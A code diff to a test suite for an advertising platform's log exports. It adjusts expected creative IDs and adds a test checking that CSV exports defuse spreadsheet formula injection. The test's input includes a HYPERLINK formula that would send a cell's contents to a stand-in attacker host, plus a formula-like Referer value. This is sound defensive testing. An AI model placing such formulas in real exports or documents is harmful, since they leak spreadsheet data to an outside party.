@@ -114,7 +114,10 @@ def expected_row(e: Event) -> dict[str, Any]:
         "campaign_id": idfmt.render("cmp", e.campaign_id or 0),
         "publisher_id": idfmt.render("pub", e.publisher_id or 0),
         "line_item_id": None,
-        "creative_id": None if e.creative_id is None else idfmt.render("crt", e.creative_id),
+        # As the API names it: a DCO template's events carry their variant, an asset's none.
+        "creative_id": None
+        if e.creative_id is None
+        else idfmt.render("dco" if "variant" in e.attrs else "ast", e.creative_id),
         "variant": e.attrs.get("variant"),
         "domain": "forbes.com" if "referrer" in e.attrs else None,
         "app_bundle": None,
@@ -284,3 +287,35 @@ def test_an_export_left_running_by_a_dead_runner_is_taken_again(
     clock.now += timedelta(minutes=31)
     assert app.container.export_runner.run_pending() == 1
     assert acme.poll(idfmt.render("exp", job.id))["status"] == "completed"
+
+
+def test_a_csv_export_defuses_cells_a_spreadsheet_would_run(acme: Advertiser, clock: FrozenClock) -> None:
+    # A visitor's click carries text a spreadsheet would take for a formula: the link's free-text
+    # variant (`cv`) and the host of the Referer.
+    body = {"name": "Landing", "type": "dsp_retargeting", "budget": 10000,
+            "destination_url": "https://shop.example.com/"}  # fmt: skip
+    created = acme.client.post("/v2/campaigns", json=body, headers=acme.headers).json()["campaign_id"]
+    campaign = idfmt.parse("cmp", created)
+    assert campaign is not None
+    acme.app.container.campaigns.review(campaign)
+    variant = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    query = urlencode({"c": idfmt.to_base36(campaign), "cv": variant})
+    click = acme.client.get(
+        f"/click?{query}", headers={"referer": "https://-1+SUM(2)/page"}, follow_redirects=False
+    )
+    assert click.status_code == 302, click.text
+    acme.app.container.events.sync()
+    day = clock.now.date().isoformat()
+
+    job_id = acme.export(type="log_level_clicks", date=day, format="csv")
+    _, data = unzip(acme.client, acme.poll(job_id)["download_url"])
+    [row] = list(csv.DictReader(io.StringIO(data.decode())))
+    assert row["variant"] == "'" + variant
+    assert row["domain"] == "'-1+sum(2)"
+    assert row["campaign_id"] == created  # our own ids and numbers are left as they are
+
+    # Parquet is not a spreadsheet's format: it keeps the values as they came.
+    job_id = acme.export(type="log_level_clicks", date=day, format="parquet")
+    _, data = unzip(acme.client, acme.poll(job_id)["download_url"])
+    [record] = pq.read_table(io.BytesIO(data)).to_pylist()
+    assert (record["variant"], record["domain"]) == (variant, "-1+sum(2)")
